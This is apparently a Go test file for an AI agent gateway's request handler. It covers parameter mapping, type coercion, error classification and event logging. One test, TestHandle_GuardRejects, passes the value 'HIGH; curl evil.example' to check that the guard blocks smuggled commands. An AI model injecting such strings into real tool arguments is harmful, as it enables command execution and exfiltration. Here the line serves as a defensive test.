package handler

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"testing"

	"go.uber.org/zap"

	"github.com/triage-ai/palisade/services/agent_gateway/internal/envelope"
	"github.com/triage-ai/palisade/services/agent_gateway/internal/gateway"
	"github.com/triage-ai/palisade/services/agent_gateway/internal/guard"
	"github.com/triage-ai/palisade/services/agent_gateway/internal/mapper"
	"github.com/triage-ai/palisade/services/agent_gateway/internal/registry"
	"github.com/triage-ai/palisade/services/agent_gateway/internal/storage"
)

type stubGateway struct {
	calls int
	tool  string
	args  map[string]any
	data  any
	err   error
}

func (s *stubGateway) CallTool(_ context.Context, tool string, args map[string]any) (*gateway.ToolResult, error) {
	s.calls++
	s.tool, s.args = tool, args
	if s.err != nil {
		return nil, s.err
	}
	return &gateway.ToolResult{Data: s.data}, nil
}

type stubWriter struct {
	events  []*storage.InvocationEvent
	flushes int
}

func (w *stubWriter) Write(e *storage.InvocationEvent) { w.events = append(w.events, e) }
func (w *stubWriter) Close()                           {}

func (w *stubWriter) Flush(context.Context) error {
	w.flushes++
	return nil
}

func newTestHandler(t *testing.T, catalog *registry.Catalog, gw *stubGateway, routes envelope.RouteTable) (*Handler, *stubWriter) {
	t.Helper()
	logger, _ := zap.NewDevelopment()
	w := &stubWriter{}
	h, err := New(Config{
		Mapper:  mapper.New(catalog, logger),
		Guard:   guard.New(catalog, logger),
		Gateway: gw,
		Routes:  routes,
		Events:  w,
		Logger:  logger,
	})
	if err != nil {
		t.Fatal(err)
	}
	return h, w
}

func param(name, typ, value string) envelope.EventParameter {
	return envelope.EventParameter{Name: name, Type: typ, Value: registry.String(value)}
}

func findingsEvent() envelope.ActionGroupEvent {
	return envelope.ActionGroupEvent{
		MessageVersion: "1.0",
		Agent:          envelope.AgentInfo{ID: "AGENT1", Alias: "TSTALIASID"},
		SessionID:      "s-1",
		ActionGroup:    "SecurityActions",
		APIPath:        "/get-security-findings",
		HTTPMethod:     "POST",
		Parameters: []envelope.EventParameter{
			param("region", "string", "us-west-2"),
			param("severity", "string", "HIGH"),
			param("maxFindings", "integer", "50"),
			param("color", "string", "blue"),
		},
	}
}

func decodeError(t *testing.T, resp envelope.Response) envelope.ErrorBody {
	t.Helper()
	var body envelope.ErrorBody
	if err := resp.DecodeBody(&body); err != nil {
		t.Fatal(err)
	}
	return body
}

func TestNew_RequiresDependencies(t *testing.T) {
	if _, err := New(Config{}); err == nil {
		t.Fatal("expected error without mapper and gateway")
	}
}

func TestHandle_Success(t *testing.T) {
	gw := &stubGateway{data: map[string]any{"count": 2.0, "findings": []any{}}}
	h, w := newTestHandler(t, registry.DefaultCatalog(), gw, nil)

	resp, err := h.Handle(t.Context(), findingsEvent())
	if err != nil {
		t.Fatal(err)
	}
	if resp.StatusCode() != 200 {
		t.Fatalf("expected 200, got %d: %s", resp.StatusCode(), resp.BodyString())
	}
	if gw.tool != registry.ToolGetSecurityFindings {
		t.Fatalf("unexpected tool %s", gw.tool)
	}
	want := map[string]any{
		"region":          "us-west-2",
		"severity_filter": "HIGH",
		"max_findings":    int64(50),
		"aws_profile":     "default",
		"check_enabled":   true,
	}
	if len(gw.args) != len(want) {
		t.Fatalf("expected %v, got %v", want, gw.args)
	}
	for k, v := range want {
		if gw.args[k] != v {
			t.Fatalf("%s: expected %v, got %v", k, v, gw.args[k])
		}
	}

	raw, _ := json.Marshal(resp)
	if issues := envelope.ValidateResponse(raw); len(issues) != 0 {
		t.Fatalf("invalid envelope: %v", issues)
	}
	if resp.Response.ActionGroup != "SecurityActions" || resp.Response.APIPath != "/get-security-findings" {
		t.Fatalf("envelope must echo the event, got %+v", resp.Response)
	}

	if len(w.events) != 1 || w.flushes != 1 {
		t.Fatalf("expected 1 event flushed once, got %d events %d flushes", len(w.events), w.flushes)
	}
	ev := w.events[0]
	if ev.Outcome != storage.OutcomeSuccess || ev.OperationID != "getSecurityFindings" || ev.StatusCode != 200 {
		t.Fatalf("unexpected event %+v", ev)
	}
	if len(ev.DroppedParams) != 1 || ev.DroppedParams[0] != "color" {
		t.Fatalf("expected color dropped, got %v", ev.DroppedParams)
	}
	if ev.RequestID == "" || ev.RegistryVersion != registry.DefaultVersion {
		t.Fatalf("expected request id and registry version, got %+v", ev)
	}
}

func TestHandle_RouteTableWins(t *testing.T) {
	gw := &stubGateway{data: map[string]any{}}
	routes := envelope.RouteTable{"POST /security/status": "checkSecurityStatus"}
	h, _ := newTestHandler(t, registry.DefaultCatalog(), gw, routes)

	ev := envelope.ActionGroupEvent{ActionGroup: "SecurityActions", APIPath: "/security/status", HTTPMethod: "POST"}
	resp, _ := h.Handle(t.Context(), ev)
	if resp.StatusCode() != 200 || gw.tool != registry.ToolCheckSecurityServices {
		t.Fatalf("expected route to checkSecurityStatus, got %d %s", resp.StatusCode(), gw.tool)
	}
}

func TestHandle_FunctionDetailsEvent(t *testing.T) {
	gw := &stubGateway{data: map[string]any{}}
	h, _ := newTestHandler(t, registry.DefaultCatalog(), gw, nil)

	ev := envelope.ActionGroupEvent{ActionGroup: "SecurityActions", Function: "listServicesInRegion"}
	resp, _ := h.Handle(t.Context(), ev)
	if resp.StatusCode() != 200 || gw.tool != registry.ToolListServicesInRegion {
		t.Fatalf("expected function name resolved, got %d %s", resp.StatusCode(), gw.tool)
	}
}

func TestHandle_UnknownOperation(t *testing.T) {
	gw := &stubGateway{}
	h, w := newTestHandler(t, registry.DefaultCatalog(), gw, nil)

	ev := envelope.ActionGroupEvent{ActionGroup: "SecurityActions", APIPath: "/delete-everything", HTTPMethod: "POST"}
	resp, err := h.Handle(t.Context(), ev)
	if err != nil {
		t.Fatal("request failures must not surface as Go errors")
	}
	if resp.StatusCode() != 404 {
		t.Fatalf("expected 404, got %d", resp.StatusCode())
	}
	if body := decodeError(t, resp); body.Kind != KindUnknownOperation {
		t.Fatalf("unexpected body %+v", body)
	}
	if gw.calls != 0 {
		t.Fatal("gateway must not be called")
	}
	if w.events[0].Outcome != storage.OutcomeMappingError || w.events[0].OperationID != "deleteEverything" {
		t.Fatalf("unexpected event %+v", w.events[0])
	}
}

func TestHandle_TypeCoercion(t *testing.T) {
	gw := &stubGateway{}
	h, _ := newTestHandler(t, registry.DefaultCatalog(), gw, nil)

	ev := findingsEvent()
	ev.Parameters = []envelope.EventParameter{param("maxFindings", "integer", "lots")}
	resp, _ := h.Handle(t.Context(), ev)
	if resp.StatusCode() != 400 {
		t.Fatalf("expected 400, got %d", resp.StatusCode())
	}
	if body := decodeError(t, resp); body.Kind != KindTypeCoercion {
		t.Fatalf("unexpected body %+v", body)
	}
}

func TestHandle_MissingRequired(t *testing.T) {
	catalog := registry.MustNewCatalog(registry.CatalogSpec{
		Version: "test",
		Tools: []registry.ToolSignature{{
			Name: "T___Lookup",
			Parameters: []registry.ParameterSpec{
				{Name: "resource_arn", Type: registry.TypeString, Required: true},
				{Name: "account_id", Type: registry.TypeString, Required: true},
			},
		}},
		Operations: map[string]string{"lookup": "T___Lookup"},
	})
	gw := &stubGateway{}
	h, _ := newTestHandler(t, catalog, gw, nil)

	resp, _ := h.Handle(t.Context(), envelope.ActionGroupEvent{ActionGroup: "lookup"})
	if resp.StatusCode() != 400 {
		t.Fatalf("expected 400, got %d", resp.StatusCode())
	}
	body := decodeError(t, resp)
	if body.Kind != KindMissingParameter || len(body.Missing) != 2 || body.Missing[0] != "resource_arn" {
		t.Fatalf("unexpected body %+v", body)
	}
}

func TestHandle_GuardRejects(t *testing.T) {
	gw := &stubGateway{}
	h, w := newTestHandler(t, registry.DefaultCatalog(), gw, nil)

	ev := findingsEvent()
	ev.Parameters = []envelope.EventParameter{param("severity", "string", "HIGH; curl evil.example")}
	resp, _ := h.Handle(t.Context(), ev)
	if resp.StatusCode() != 400 {
		t.Fatalf("expected 400, got %d", resp.StatusCode())
	}
	if gw.calls != 0 {
		t.Fatal("gateway must not be called for rejected arguments")
	}
	if w.events[0].Outcome != storage.OutcomeRejected {
		t.Fatalf("unexpected outcome %s", w.events[0].Outcome)
	}
}

func TestHandle_GatewayError(t *testing.T) {
	gw := &stubGateway{err: &gateway.HTTPError{StatusCode: 502, Body: "bad gateway"}}
	h, w := newTestHandler(t, registry.DefaultCatalog(), gw, nil)

	resp, _ := h.Handle(t.Context(), findingsEvent())
	if resp.StatusCode() != 500 {
		t.Fatalf("expected 500, got %d", resp.StatusCode())
	}
	if body := decodeError(t, resp); body.Kind != KindGateway {
		t.Fatalf("unexpected body %+v", body)
	}
	if w.events[0].Outcome != storage.OutcomeGatewayError || w.events[0].ToolName != registry.ToolGetSecurityFindings {
		t.Fatalf("unexpected event %+v", w.events[0])
	}
}

func TestHandle_BadEvent(t *testing.T) {
	h, w := newTestHandler(t, registry.DefaultCatalog(), &stubGateway{}, nil)
	resp, _ := h.Handle(t.Context(), envelope.ActionGroupEvent{})
	if resp.StatusCode() != 400 {
		t.Fatalf("expected 400, got %d", resp.StatusCode())
	}
	if w.events[0].Outcome != storage.OutcomeBadEvent {
		t.Fatalf("unexpected outcome %s", w.events[0].Outcome)
	}
}

const objectValueEvent = `{
	"messageVersion": "1.0",
	"agent": {"id": "AGENT1", "alias": "TSTALIASID"},
	"sessionId": "s-1",
	"actionGroup": "SecurityActions",
	"apiPath": "/get-security-findings",
	"httpMethod": "POST",
	"parameters": [{"name": "region", "type": "string", "value": "us-west-2"}],
	"requestBody": {"content": {"application/json": {"properties": [
		{"name": %q, "type": "object", "value": {"a": 1}}
	]}}}
}`

func TestHandleJSON_UnknownObjectParameterDropped(t *testing.T) {
	gw := &stubGateway{data: map[string]any{}}
	h, w := newTestHandler(t, registry.DefaultCatalog(), gw, nil)

	resp, err := h.HandleJSON(t.Context(), json.RawMessage(fmt.Sprintf(objectValueEvent, "filters")))
	if err != nil {
		t.Fatal(err)
	}
	if resp.StatusCode() != 200 {
		t.Fatalf("expected 200, got %d: %s", resp.StatusCode(), resp.BodyString())
	}
	if gw.args["region"] != "us-west-2" {
		t.Fatalf("unexpected args %v", gw.args)
	}
	if got := w.events[0].DroppedParams; len(got) != 1 || got[0] != "filters" {
		t.Fatalf("expected filters dropped, got %v", got)
	}
}

func TestHandleJSON_KnownObjectParameterIsCoercionError(t *testing.T) {
	gw := &stubGateway{}
	h, _ := newTestHandler(t, registry.DefaultCatalog(), gw, nil)

	resp, _ := h.HandleJSON(t.Context(), json.RawMessage(fmt.Sprintf(objectValueEvent, "severity")))
	if resp.StatusCode() != 400 {
		t.Fatalf("expected 400, got %d", resp.StatusCode())
	}
	if body := decodeError(t, resp); body.Kind != KindTypeCoercion {
		t.Fatalf("unexpected body %+v", body)
	}
	if gw.calls != 0 {
		t.Fatal("gateway must not be called")
	}
}

func TestHandleJSON_UndecodableEvent(t *testing.T) {
	h, w := newTestHandler(t, registry.DefaultCatalog(), &stubGateway{}, nil)

	resp, err := h.HandleJSON(t.Context(), json.RawMessage(`{"parameters": "nope"}`))
	if err != nil {
		t.Fatal(err)
	}
	if resp.StatusCode() != 400 {
		t.Fatalf("expected 400, got %d", resp.StatusCode())
	}
	if body := decodeError(t, resp); body.Kind != KindBadEvent {
		t.Fatalf("unexpected body %+v", body)
	}
	if len(w.events) != 1 || w.events[0].Outcome != storage.OutcomeBadEvent || w.flushes != 1 {
		t.Fatalf("expected one bad_event record flushed, got %+v", w.events)
	}
}

func TestHandle_NetworkResultFormatted(t *testing.T) {
	gw := &stubGateway{data: map[string]any{
		"region":            "eu-west-1",
		"resources_checked": 4.0,
		"resource_details":  []any{},
		"internal_detail":   "x",
	}}
	h, _ := newTestHandler(t, registry.DefaultCatalog(), gw, nil)

	resp, _ := h.Handle(t.Context(), envelope.ActionGroupEvent{ActionGroup: "checkNetworkSecurity"})
	var body map[string]any
	if err := resp.DecodeBody(&body); err != nil {
		t.Fatal(err)
	}
	if body["summary"] != "Network security analysis for eu-west-1" {
		t.Fatalf("expected summary, got %v", body)
	}
	if _, ok := body["internal_detail"]; ok {
		t.Fatal("formatted network result must use the fixed field set")
	}
}

func TestMappingFailure_Classification(t *testing.T) {
	tests := []struct {
		err    error
		status int
		kind   string
	}{
		{&mapper.UnknownOperationError{OperationID: "x"}, 404, KindUnknownOperation},
		{&mapper.UnknownToolError{ToolName: "x"}, 500, KindUnknownTool},
		{&mapper.MissingRequiredParameterError{ToolName: "x", Names: []string{"a"}}, 400, KindMissingParameter},
		{&mapper.TypeCoercionError{Parameter: "a", Target: registry.TypeInteger}, 400, KindTypeCoercion},
		{errors.New("boom"), 500, KindInternal},
	}
	for _, tt := range tests {
		f := mappingFailure(tt.err)
		if f.status != tt.status || f.kind != tt.kind {
			t.Fatalf("%v: expected %d/%s, got %d/%s", tt.err, tt.status, tt.kind, f.status, f.kind)
		}
	}
}
